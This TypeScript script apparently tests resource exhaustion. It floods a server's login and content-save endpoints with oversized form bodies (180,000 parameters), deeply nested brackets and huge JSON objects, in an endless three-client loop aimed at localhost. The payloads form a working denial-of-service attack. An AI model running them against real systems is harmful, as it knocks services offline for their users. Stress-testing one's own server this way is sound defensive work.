// A process that sends, until it is stopped, what takes long to walk: `node flood.ts http://127.0.0.1:3000`.

import { constants, setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

const [origin = ''] = process.argv.slice(2);
const clients = 3;

// Attackers bring processors of their own; here they take only what is left of the server's.
setPriority(constants.priority.PRIORITY_LOW);

const names = Array.from({ length: 180_000 }, (_, at) => `k${at.toString(36)}`);
const form = 'application/x-www-form-urlencoded';
const json = 'application/json';
const login = '/api/userManage/login';
const save = '/api/infoManage/content/save';

const requests: { path: string; type: string; body: string }[] = [
  { path: login, type: form, body: names.join('&') },
  { path: login, type: form, body: names.slice(0, 45_000).join('&') },
  { path: save, type: form, body: names.join('&') },
  { path: save, type: form, body: `data=${'['.repeat(500_000)}` },
  {
    path: save,
    type: form,
    body: `data={${names
      .slice(0, 90_000)
      .map((name) => `"${name}":1`)
      .join(',')}}`,
  },
  { path: save, type: json, body: '['.repeat(1_000_000) },
];

async function send({ path, type, body }: (typeof requests)[number]): Promise<void> {
  // The server may hang up on a body that it does not want.
  await fetch(origin + path, { method: 'POST', headers: { 'content-type': type }, body }).then(
    (answer) => answer.arrayBuffer(),
    () => undefined,
  );
  process.send?.('sent');
}

/** As in a loop of the shell, where each request starts a program. */
const pause = 10;

async function run(): Promise<never> {
  for (;;)
    for (const request of requests) {
      await send(request);
      await sleep(pause);
    }
}

await Promise.all(Array.from({ length: clients }, run));
